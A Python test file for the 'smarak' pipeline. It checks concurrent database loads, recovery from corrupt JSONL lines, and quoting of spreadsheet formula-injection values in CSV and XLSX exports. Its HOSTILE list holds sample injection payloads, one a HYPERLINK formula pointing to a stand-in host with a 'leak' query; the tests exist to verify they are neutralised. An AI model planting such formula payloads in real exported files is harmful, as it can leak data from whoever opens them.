"""The database and the exports under faults: concurrent `smarak db load` runs, corrupt lines, and hostile cell
values. Against SQLite and (when SMARAK_TEST_PG_URL is set) PostgreSQL, through the real console script."""

from __future__ import annotations

import csv
import multiprocessing
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from pipeline.models import Record
from pipeline.store import StoreError, connect
from pipeline.store.db import StoredDocument
from pipeline.store.export import DOCUMENT_COLUMNS, export

# Its fixtures: db_url (a new SQLite file, or a new schema on the PostgreSQL test server) and records.
pytest_plugins = ["tests.test_store"]
SMARAK = str(Path(sys.executable).with_name("smarak"))
COUNTS = re.compile(r"(\d+) inserted, (\d+) replaced, (\d+) unchanged")


def _jsonl(path: Path, lines: list[str]) -> Path:
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    return path


def _load(path: Path, url: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [SMARAK, "db", "load", str(path), "--db", url], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


def _stored_count(url: str) -> int:
    engine = connect(url)
    try:
        with Session(engine) as session:
            return session.scalar(select(func.count()).select_from(StoredDocument)) or 0
    finally:
        engine.dispose()


# Two loads at once


def _connect_at(barrier: multiprocessing.synchronize.Barrier, url: str, outcomes: multiprocessing.Queue[str]) -> None:
    """(In a child process.) Open the database the moment the other child does."""
    barrier.wait()
    try:
        connect(url).dispose()
        outcomes.put("ok")
    except StoreError as error:
        outcomes.put(str(error))


def test_two_processes_opening_a_new_database_at_once(db_url: str) -> None:
    context = multiprocessing.get_context("spawn")
    barrier, outcomes = context.Barrier(2), context.Queue()
    children = [context.Process(target=_connect_at, args=(barrier, db_url, outcomes)) for _ in range(2)]
    for child in children:
        child.start()
    for child in children:
        child.join(timeout=120)
    assert [outcomes.get(timeout=5) for _ in children] == ["ok", "ok"]
    assert _stored_count(db_url) == 0


def test_two_concurrent_loads_into_a_new_database(records: list[Record], db_url: str, tmp_path: Path) -> None:
    unique = list({record.id: record for record in records}.values())
    path = _jsonl(tmp_path / "records.jsonl", [record.to_json() for record in unique])
    runs = [_load(path, db_url) for _ in range(2)]
    errors = [run.communicate(timeout=300)[1] for run in runs]
    assert [run.returncode for run in runs] == [0, 0], errors
    counts = [tuple(map(int, COUNTS.findall(error)[0])) for error in errors]
    inserted, replaced, unchanged = (sum(column) for column in zip(*counts, strict=True))
    # Every record inserted by one of the two and found unchanged by the other.
    assert (inserted, replaced, unchanged) == (len(unique), 0, len(unique))
    assert _stored_count(db_url) == len(unique)


# Corrupt lines


def test_load_with_corrupt_lines_exits_1_and_loads_the_rest(records: list[Record], db_url: str, tmp_path: Path) -> None:
    good = [record.to_json() for record in records[:4]]
    path = _jsonl(tmp_path / "records.jsonl", [good[0], "{torn", *good[1:3], good[3][:40], good[3]])
    done = subprocess.run(
        [SMARAK, "db", "load", str(path), "--db", db_url], capture_output=True, text=True, check=False
    )
    assert done.returncode == 1, done.stderr
    assert "line 2" in done.stderr and "line 5" in done.stderr
    assert "4 inserted, 0 replaced, 0 unchanged" in done.stderr
    assert "2 corrupt lines skipped" in done.stderr
    assert _stored_count(db_url) == 4


# Formula injection

SUBJECT = list(DOCUMENT_COLUMNS).index("subject") + 1  # its column in the documents sheet
HOSTILE = ['=HYPERLINK("http://example.com/x?leak","click")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _hostile_records(records: list[Record]) -> list[Record]:
    """Real records whose subject, first decision's text and responsible start with a formula character."""
    base = next(record for record in records if record.decisions)
    prefix = base.id.split(":")[0]
    hostile = []
    for number, value in enumerate(HOSTILE):
        decision = base.decisions[0].model_copy(update={"text": value, "responsible": [value, "প্রোগ্রামার"]})
        update = {"id": f"{prefix}:{100 + number}", "subject": value, "decisions": [decision]}
        hostile.append(base.model_copy(update=update))
    return hostile


def test_csv_and_xlsx_cells_that_start_a_formula_are_quoted(records: list[Record], tmp_path: Path) -> None:
    hostile = _hostile_records(records)
    documents, decisions = export(hostile, "csv", tmp_path / "run")
    with documents.open(encoding="utf-8-sig", newline="") as file:
        assert [row["subject"] for row in csv.DictReader(file)] == [f"'{value}" for value in HOSTILE]
    with decisions.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["text"] for row in rows] == [f"'{value}" for value in HOSTILE]
    assert [row["responsible"] for row in rows] == [f"'{value}; প্রোগ্রামার" for value in HOSTILE]
    assert {row["memo_no"] for row in rows} == {hostile[0].memo_no.value if hostile[0].memo_no else ""}

    (workbook,) = export(hostile, "xlsx", tmp_path / "run")
    sheet = openpyxl.load_workbook(workbook)["documents"]
    subjects = [row[0] for row in sheet.iter_rows(min_row=2, min_col=SUBJECT, max_col=SUBJECT)]
    assert all(cell.data_type == "s" and str(cell.value).startswith("'") for cell in subjects)
    assert [cell.value for cell in subjects][:4] == [f"'{value}" for value in HOSTILE[:4]]


def test_parquet_and_database_keep_the_values(records: list[Record], db_url: str, tmp_path: Path) -> None:
    hostile = _hostile_records(records)
    documents, decisions = export(hostile, "parquet", tmp_path)
    assert list(pd.read_parquet(documents)["subject"]) == HOSTILE
    assert list(pd.read_parquet(decisions)["text"]) == HOSTILE
    path = _jsonl(tmp_path / "records.jsonl", [record.to_json() for record in hostile])
    assert subprocess.run([SMARAK, "db", "load", str(path), "--db", db_url], check=False).returncode == 0
    engine = connect(db_url)
    with Session(engine) as session:
        assert list(session.scalars(select(StoredDocument.subject).order_by(StoredDocument.id))) == HOSTILE
    engine.dispose()
